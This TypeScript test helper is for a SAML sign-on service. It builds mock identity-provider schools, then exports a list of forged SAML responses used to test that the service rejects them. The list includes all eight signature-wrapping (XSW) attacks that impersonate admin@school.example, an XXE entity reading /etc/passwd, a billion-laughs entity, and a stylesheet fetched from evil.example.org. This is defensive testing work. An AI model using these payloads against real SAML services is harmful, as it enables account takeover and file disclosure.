import { createPublicKey } from 'node:crypto'
import { promisify } from 'node:util'
import { inflateRawSync } from 'node:zlib'
import {
  encrypt,
  type EncryptionAlgorithm,
  type EncryptOptions,
  type KeyEncryptionAlgorithm,
} from 'xml-encryption'
import {
  aConnection,
  aPlannedSite,
  aWalker,
  type listeningWorld,
  type MadeConnection,
  type PlannedSite,
  unique,
} from './enterprise.ts'
import { type SamlIdp, type SamlPerson, startSamlIdp } from './saml-idp.ts'

type Lyceum = Awaited<ReturnType<typeof listeningWorld>>
export type School = {
  site: PlannedSite
  idp: SamlIdp
  connection: MadeConnection
  start: string
  person: SamlPerson
  id: string
}

/** Sites whose people sign in at a SAML provider, and the single steps of that sign-in. */
export function samlSchools(lyceum: Lyceum) {
  const { sso, address } = lyceum

  async function aSchool({
    idp: given,
    ...more
  }: { idp?: SamlIdp } & Record<string, unknown> = {}): Promise<School> {
    const site = await aPlannedSite(lyceum)
    const idp = given ?? (await startSamlIdp())
    const connection = await aConnection(lyceum, site, {
      type: 'saml',
      metadata_url: idp.metadata_url,
      ...more,
    })
    idp.state.acs_url = connection.acs_url
    const person: SamlPerson = { id: `p-${unique()}`, email: `sam-${unique()}@school.example` }
    idp.state.person = person
    const start = `${address}/sso/${connection.connection_id}/start`
    return { site, idp, connection, start, person, id: connection.connection_id }
  }

  /** A browser that was redirected to the provider, and the id of its request. */
  async function onTheWay(school: Pick<School, 'start' | 'idp'>) {
    const walker = aWalker()
    const { url } = await walker.walk(school.start, ({ href }) => href.startsWith(school.idp.origin))
    const xml = inflateRawSync(Buffer.from(url.searchParams.get('SAMLRequest') ?? '', 'base64')).toString()
    return { walker, request_id: / ID="([^"]+)"/.exec(xml)?.[1] ?? '', xml }
  }

  const answerTo = (
    school: School,
    request_id: string,
    more: Record<string, unknown> = {},
    person = school.person,
  ) =>
    school.idp.answer(
      { request_id, acs_url: school.connection.acs_url, audience: school.connection.sp_entity_id },
      person,
      more,
    )

  const post = (school: School, xml: string) =>
    sso.inject({
      method: 'POST',
      url: new URL(school.connection.acs_url).pathname,
      headers: { 'content-type': 'application/x-www-form-urlencoded', host: new URL(address).host },
      payload: new URLSearchParams({ SAMLResponse: Buffer.from(xml).toString('base64') }).toString(),
    })

  return { aSchool, onTheWay, answerTo, post }
}

type Encrypted = { certificate: string; data?: EncryptionAlgorithm; key?: KeyEncryptionAlgorithm }
const encryptXml = promisify<string, EncryptOptions, string>(encrypt)

/** Encrypts a text as an assertion for the holder of the certificate's key. Anybody can do this. */
export async function encryptedAssertion(
  text: string,
  { certificate, data, key }: Encrypted,
): Promise<string> {
  const pem = certificate
  const encrypted = await encryptXml(text, {
    pem,
    rsa_pub: createPublicKey(pem).export({ type: 'spki', format: 'pem' }).toString(),
    encryptionAlgorithm: data ?? 'http://www.w3.org/2009/xmlenc11#aes256-gcm',
    keyEncryptionAlgorithm: key ?? 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p',
    warnInsecureAlgorithm: false,
  })
  return `<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${encrypted}</saml:EncryptedAssertion>`
}

export const EVIL = 'admin@school.example'

/** A valid response in three parts: before the assertion, the assertion, after it. */
export const split = (xml: string) => {
  const [from, to] = [xml.indexOf('<saml:Assertion'), xml.lastIndexOf('</saml:Assertion>') + 17]
  return { head: xml.slice(0, from), assertion: xml.slice(from, to), tail: xml.slice(to) }
}
export const forge = (assertion: string) =>
  assertion
    .replace(/<Signature[\s\S]*<\/Signature>/, '')
    .replace(/ ID="[^"]+"/, ' ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${EVIL}`)
const wrap = (inner: string) =>
  `<samlp:Extensions xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">${inner}</samlp:Extensions>`
const signatureOf = (assertion: string) => /<Signature[\s\S]*<\/Signature>/.exec(assertion)?.[0] ?? ''

/** Forge a message from a valid response: the eight signature wrapping attacks (XSW) and other known tricks. */
export const ATTACKS: [string, (xml: string) => string][] = [
  ['a changed name', (xml) => xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${EVIL}`)],
  ['a comment in the name', (xml) => xml.replace(/(<saml:NameID[^>]*>)([^<]*)/, `$1${EVIL}<!---->$2`)],
  ['a changed InResponseTo', (xml) => xml.replace(/(<samlp:Response[^>]* InResponseTo=")[^"]+/, '$1_other')],
  [
    'XSW 1: the signed response within a signature of a forged one',
    (xml) =>
      xml
        .replace('<samlp:Response', '<samlp:Response x="1"')
        .replace(/ ID="_/, ' ID="_evil')
        .replace('</Signature>', `<Object>${xml.replace(/<\?xml[^>]*\?>/, '')}</Object></Signature>`),
  ],
  [
    'XSW 2: the signed response beside its forged signature',
    (xml) => {
      const { head, assertion, tail } = split(xml)
      return `${head}${wrap(xml)}${forge(assertion)}${tail}`
    },
  ],
  [
    'XSW 3: a forged assertion before the signed one',
    (xml) => {
      const { head, assertion, tail } = split(xml)
      return head + forge(assertion) + assertion + tail
    },
  ],
  [
    'XSW 4: the signed assertion within a forged one',
    (xml) => {
      const { head, assertion, tail } = split(xml)
      return head + forge(assertion).replace('</saml:Assertion>', `${assertion}</saml:Assertion>`) + tail
    },
  ],
  [
    'XSW 5: a forged assertion with the signature, the signed one after it',
    (xml) => {
      const { head, assertion, tail } = split(xml)
      return (
        head +
        forge(assertion).replace('</saml:Issuer>', `</saml:Issuer>${signatureOf(assertion)}`) +
        assertion.replace(signatureOf(assertion), '') +
        tail
      )
    },
  ],
  [
    'XSW 6: the signed assertion within the signature of a forged one',
    (xml) => {
      const { head, assertion, tail } = split(xml)
      const bare = assertion.replace(signatureOf(assertion), '')
      return (
        head +
        forge(assertion).replace(
          '</saml:Issuer>',
          `</saml:Issuer>${signatureOf(assertion).replace('</Signature>', `<Object>${bare}</Object></Signature>`)}`,
        ) +
        tail
      )
    },
  ],
  [
    'XSW 7: the signed assertion within extensions',
    (xml) => {
      const { head, assertion, tail } = split(xml)
      return head + wrap(assertion) + forge(assertion) + tail
    },
  ],
  [
    'XSW 8: the signed assertion within an object of a forged signature',
    (xml) => {
      const { head, assertion, tail } = split(xml)
      return (
        head +
        forge(assertion).replace(
          '</saml:Issuer>',
          `</saml:Issuer><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><Object>${assertion}</Object></Signature>`,
        ) +
        tail
      )
    },
  ],
  [
    'two elements with the id that is signed',
    (xml) =>
      xml.replace(
        '<samlp:Status>',
        `<samlp:Status ID="${/<saml:Assertion[^>]* ID="([^"]+)"/.exec(xml)?.[1]}">`,
      ),
  ],
  [
    'a document type with an entity',
    (xml) =>
      `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&e;')}`,
  ],
  [
    'a billion laughs',
    (xml) => `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(100)}"><!ENTITY b "&a;&a;&a;&a;">]>${xml}`,
  ],
  ['a depth that no reader survives', () => '<a>'.repeat(20_000)],
  ['no XML', () => 'not xml'],
  ['another message of SAML', (xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse')],
  ['an assertion as the root', (xml) => split(xml).assertion],
  ['a stylesheet', (xml) => `<?xml-stylesheet href="https://evil.example.org/x.xsl"?>${xml}`],
]
